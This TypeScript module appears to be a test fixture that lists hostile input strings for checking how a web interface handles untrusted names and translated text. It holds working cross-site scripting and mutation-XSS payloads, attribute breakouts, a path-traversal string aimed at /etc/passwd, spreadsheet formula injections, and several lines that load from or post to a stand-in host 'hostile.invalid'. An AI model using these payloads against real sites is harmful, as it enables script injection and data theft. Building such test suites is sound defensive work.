/** What a hostile text is meant to break. A short run has some of every kind. */
export const KINDS = [
  'element',
  'attribute',
  'mutation',
  'entity',
  'address',
  'interpolation',
  'style',
  'unicode',
  'name',
  'formula',
  'length',
] as const
export type Kind = (typeof KINDS)[number]

export interface Payload {
  readonly kind: Kind
  readonly text: string
  /** Works only where it is the whole text: it cannot have a mark in front. */
  readonly isWhole?: true
}

/** Set by every payload that runs. */
export const MARKER = '__hostile'
/** An attribute of every element that a payload would create. */
export const ELEMENT_MARK = 'data-h'
/** A host name that payloads load from; it exists nowhere. */
export const HOSTILE_HOST = 'hostile.invalid'

const of = (kind: Kind, ...texts: readonly string[]): Payload[] => texts.map((text) => ({ kind, text }))
const wholes = (kind: Kind, ...texts: readonly string[]): Payload[] =>
  texts.map((text) => ({ kind, text, isWhole: true }))

const ELEMENTS = of(
  'element',
  '<script data-h>__hostile=1</script>',
  '<img data-h src=x onerror=__hostile=1>',
  '"><script data-h>alert(1)</script>',
  '</title><script data-h>alert(1)</script>',
  '</textarea><img data-h src="x" onerror="alert(1)">',
  '<svg data-h onload=alert(1)>',
  '<svg data-h><script>alert(1)</script></svg>',
  '<svg data-h><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe data-h srcdoc="<script>parent.__hostile=1</script>">',
  '<iframe data-h src="javascript:alert(1)">',
  '<object data-h data="data:text/html,<script>alert(1)</script>">',
  '<embed data-h src="data:text/html,<script>alert(1)</script>">',
  '<a data-h href="javascript:alert(1)">x</a>',
  '<base data-h href="//hostile.invalid/">',
  '<meta data-h http-equiv=refresh content="0;url=//hostile.invalid">',
  '<link data-h rel=stylesheet href="//hostile.invalid/x.css">',
  '<form data-h action="//hostile.invalid"><button>x',
  '<input data-h autofocus onfocus=alert(1)>',
  '<details data-h open ontoggle=alert(1)>x',
  '<video data-h><source onerror=alert(1)></video>',
  '<body data-h onload=alert(1)>',
)
const ATTRIBUTES = of(
  'attribute',
  '" onmouseover="alert(1)" data-h="',
  "' onfocus='alert(1)' autofocus data-h='",
  '` onerror=alert(1) data-h `',
  'x" style="position:fixed;inset:0" data-h="',
)
/** Texts that change their meaning when a browser parses, writes and parses them again. */
const MUTATIONS = of(
  'mutation',
  '<math><mtext><table><mglyph><style><img data-h src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img data-h src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img data-h src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img data-h src onerror=alert(1)>',
  '<![CDATA[<img data-h src=x onerror=alert(1)>]]>',
  '<!--><img data-h src=x onerror=alert(1)>-->',
)
const ENTITIES = of(
  'entity',
  '&lt;img data-h src=x onerror=alert(1)&gt;',
  '&#60;script data-h&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;b&amp;gt; &nbsp; &copy;',
  String.raw`\u003cscript data-h\u003ealert(1)\u003c/script\u003e`,
  '%3Cscript%20data-h%3Ealert(1)%3C/script%3E',
)
const ADDRESSES = [
  ...wholes('address', 'javascript:alert(1)', 'data:text/html,<script data-h>alert(1)</script>'),
  ...of('address', 'JaVaScRiPt:__hostile=1//', '//hostile.invalid/x', '../../../etc/passwd'),
]
const INTERPOLATIONS = of(
  'interpolation',
  '$t(OWNER_PANEL)',
  '{{name}}',
  '{{- name}}',
  '$t(DELETE_ZONE_TEXT, {"name": "x"})',
  '{{order}} {{table}} {{count}} {{name, uppercase}}',
  String.raw`$& $1 $$ $' $<name> \1`,
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '<0>x</0><1/><strong>x</strong>',
  '%s %d %o {0} {name}',
)
const STYLES = of(
  'style',
  '<style data-h>*{display:none}</style>',
  '</style><style data-h>*{color:red}',
  'x;background:url(//hostile.invalid/x)',
)
const UNICODE = [
  ...of(
    'unicode',
    '\u202Eгост\u202C abc \u2066x\u2069',
    'a\u200Bb\u200Dc\uFEFFd\u2060e',
    'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308b',
    'x\u0001\u0007\u001B[31my',
    'line\nbreak\ttab',
  ),
]
const NAMES = wholes(
  'name',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'OWNER_PANEL',
  'ERROR_INTERNAL',
)
const FORMULAS = wholes('formula', '=HYPERLINK("//hostile.invalid","x")', '+1+1', '-1+1', '@SUM(1)', '＝1+1')
/** Cut to the longest text that a field takes. */
const LENGTHS = of('length', '<b data-h>'.repeat(1024))

/** Every hostile text. */
export const PAYLOADS: readonly Payload[] = [
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...MUTATIONS,
  ...ENTITIES,
  ...ADDRESSES,
  ...INTERPOLATIONS,
  ...STYLES,
  ...UNICODE,
  ...NAMES,
  ...FORMULAS,
  ...LENGTHS,
]

/** Two of each kind, and more of those that a translated text could fill in. */
export const SOME_PAYLOADS: readonly Payload[] = KINDS.flatMap((kind) =>
  PAYLOADS.filter((payload) => payload.kind === kind).slice(0, kind === 'interpolation' ? 6 : 2),
)

/** A name may have 200 characters, with a mark in front. */
const PACK_LENGTH = 190

/**
 * Texts that contain several payloads each, as many as fit a name: of what a screen shows one at a time. Those that a
 * translated text could fill in are together in the first.
 */
export const packsOf = (payloads: readonly Payload[]): readonly Payload[] => {
  const first = payloads.filter(({ kind }) => kind === 'interpolation')
  const rest = payloads.filter(
    ({ kind, isWhole }) => isWhole !== true && kind !== 'interpolation' && kind !== 'length',
  )
  const packs: string[] = []
  for (const { text } of [...first, ...rest]) {
    const joined = `${packs.at(-1) ?? ''} ${text}`
    if (packs.length > 0 && joined.length <= PACK_LENGTH) packs[packs.length - 1] = joined
    else packs.push(text)
  }
  return packs.map((text) => ({ kind: 'element', text }))
}
